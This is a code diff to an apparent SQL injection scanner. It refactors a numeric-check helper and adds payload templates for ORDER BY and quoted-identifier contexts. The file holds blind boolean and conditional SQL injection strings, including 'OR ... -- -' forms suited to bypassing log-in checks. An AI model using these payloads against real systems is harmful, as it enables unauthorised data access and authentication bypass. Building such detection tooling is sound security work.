@@ -35,16 +35,17 @@ def _any(_: str) -> bool:
     return True
 
 
-def _number(value: str) -> bool:
+def is_number(value: str) -> bool:
+    """True for digits, with a sign or a fraction or without."""
     return value.strip().lstrip("-").replace(".", "", 1).isdecimal()
 
 
 def _numbers(value: str) -> bool:
-    return "," in value and all(_number(part) for part in value.split(","))
+    return "," in value and all(is_number(part) for part in value.split(","))
 
 
 def _text(value: str) -> bool:
-    return bool(value) and not _number(value)
+    return bool(value) and not is_number(value)
 
 
 def _identifier(value: str) -> bool:
@@ -52,8 +53,13 @@ def _identifier(value: str) -> bool:
         bool(value)
         and value.isascii()
         and value.replace("_", "a").replace(".", "a").isalnum()
-        and not _number(value)
+        and not is_number(value)
     )
+
+
+def _sorting(value: str) -> bool:
+    column, _, direction = value.partition(" ")
+    return _identifier(column) and direction.lower() in ("", "asc", "desc")
 
 
 # Two rows where one value must stand fail in most systems, the absolute value of the least integer in SQLite.
@@ -61,16 +67,18 @@ _FAILURE = "(SELECT abs(-9223372036854775807-1) UNION SELECT 2)"
 
 # A final `LIKE` meets both a bare closing quote and a trailing wildcard: 'x' LIKE 'x' and 'x' LIKE 'x%'.
 AND_CONTEXTS = (
-    SqlContext("numeric", "{v} AND {c}", _number),
+    SqlContext("numeric", "{v} AND {c}", is_number),
     SqlContext("single-quoted string", "{v}' AND {c} AND 'x' LIKE 'x", _any),
     SqlContext("LIKE pattern", "{v}%' AND {c} AND 'x' LIKE 'x", _any),
     SqlContext("string in parentheses", "{v}') AND {c} AND ('x' LIKE 'x", _any),
     SqlContext("double-quoted string", '{v}" AND {c} AND "x" LIKE "x', _any),
-    SqlContext("numeric expression", "({v}+0*{f})", _number),
+    SqlContext("numeric expression", "({v}+0*{f})", is_number),
     SqlContext("list of numbers", "{v}) AND {c} AND (1) IN (1", _numbers),
-    SqlContext("number of a statement that shows no row", "(CASE WHEN {c} THEN {v} ELSE {e} END)", _number),
+    SqlContext("number of a statement that shows no row", "(CASE WHEN {c} THEN {v} ELSE {e} END)", is_number),
     SqlContext("ORDER BY column", "(CASE WHEN {c} THEN {v} ELSE NULL END)", _identifier),
-    SqlContext("ORDER BY list or direction", "{v},(SELECT CASE WHEN {c} THEN 1 ELSE {e} END)", _identifier),
+    SqlContext("ORDER BY list or direction", "{v},(SELECT CASE WHEN {c} THEN 1 ELSE {e} END)", _sorting),
+    SqlContext("name in back-quotes", "{v}`,(SELECT CASE WHEN {c} THEN 1 ELSE {e} END),`{v}", _identifier),
+    SqlContext("name in double quotes", '{v}",(SELECT CASE WHEN {c} THEN 1 ELSE {e} END),"{v}', _identifier),
     SqlContext("joined string", "{v}'||{s}||'", _any),
     SqlContext("single-quoted string without words", "{v}'&&{f}&&'x'LIKE'x", _text),
     SqlContext(
@@ -95,11 +103,11 @@ def without_blanks(contexts: tuple[SqlContext, ...]) -> tuple[SqlContext, ...]:
 # can be trusted to read: a safe method, or a log-in form.
 READING_CONTEXTS = (
     SqlContext("ORDER BY tail", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", _identifier),
-    SqlContext("LIMIT or ORDER BY number", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", _number),
+    SqlContext("LIMIT or ORDER BY number", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", is_number),
     SqlContext("single-quoted string before a comment", "{v}' AND {c}-- -", _text),
     SqlContext("string after an escaped quote", "{v}\\' AND {c}-- -", _text),
     SqlContext("single-quoted string", "{n}' OR {c}-- -", _any, keeps=False),
-    SqlContext("numeric", "-{n} OR {c}", _number, keeps=False),
+    SqlContext("numeric", "-{n} OR {c}", is_number, keeps=False),
     SqlContext("string in parentheses", "{n}') OR {c}-- -", _any, keeps=False),
     SqlContext("double-quoted string", '{n}" OR {c}-- -', _any, keeps=False),
 )
@@ -116,7 +124,7 @@ LOGIN_CONTEXTS = (
 SYNTAX = (
     "AND OR LIKE x 1 2 CASE WHEN THEN ELSE NULL END LIMIT SELECT UNION BETWEEN BETVEEM 99999 0 - -- and or like "
     "case when then else null end limit select union between betveem NULLIF NULLIP nullif nullip abs CAST AS CHAR "
-    "9223372036854775807"
+    "9223372036854775807 ORDER BY ALL FROM DUAL UNIQN"
 )
 """Words of the payloads, which are no features of a page."""
 
@@ -152,7 +160,7 @@ def syntax_break(value: str, fresh: str, number: int, *, bare: bool = False) -> 
             Repair("single-quoted string", f"{value}{fresh})''\"\\\\", broken),
             Repair("double-quoted string", f'{value}{fresh})\'""\\\\', broken),
         ]
-    if _number(value):
+    if is_number(value):
         repairs.insert(0, Repair("numeric", f"{value}-{number}+{number}", f"{value}-{number}+"))
         # LIMIT takes a number and nothing to reckon; a comment is no part of a statement anywhere.
         repairs.append(Repair("numeric, behind it a comment", f"{value}/*{number}*/", f"{value}*{number}*/"))
